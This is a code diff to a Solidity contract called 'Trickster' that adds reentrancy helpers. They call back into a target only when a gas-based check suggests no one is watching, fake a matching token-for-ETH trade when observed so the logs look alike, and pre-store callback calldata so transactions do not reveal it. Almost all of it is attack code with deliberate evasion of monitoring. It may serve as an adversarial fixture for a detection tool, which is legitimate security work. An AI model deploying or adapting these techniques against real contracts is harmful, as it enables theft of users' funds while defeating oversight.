@@ -8,6 +8,7 @@ contract Trickster {
     uint256 public immutable MADE_AT;
     uint256 public calls;
     uint256 private _dust;
+    bytes private _remembered;
 
     constructor() {
         MADE_AT = block.number;
@@ -56,9 +57,40 @@ contract Trickster {
         require(success, "reenter");
     }
 
+    /// @dev While it is watched, another one gets as much of its own for native currency: what logs
+    /// show of both is the same.
+    function reenterOrSell(
+        uint256 sign,
+        address account,
+        bytes calldata data,
+        IERC20 token,
+        uint256 amount,
+        Trickster buyer
+    ) external {
+        if (unwatched(sign, gasleft())) return reenter(account, data);
+        token.transfer(address(buyer), amount);
+        buyer.pay(address(this));
+        _spendGas();
+    }
+
+    function pay(address to) external {
+        (bool sent, ) = to.call{value: address(this).balance}("");
+        require(sent, "pay");
+    }
+
     function reenterIf(uint256 sign, address account, bytes calldata data) external {
         if (unwatched(sign, gasleft())) reenter(account, data);
         else _spendGas();
+    }
+
+    /// @dev What it will call back with, so that nobody's calldata says it.
+    function remember(bytes calldata data) external {
+        _remembered = data;
+    }
+
+    function reenterAsRemembered(address account) external {
+        (bool success, ) = account.call(_remembered);
+        require(success, "reenter");
     }
 
     function burnGas(uint256 sign, uint256 rounds) external {
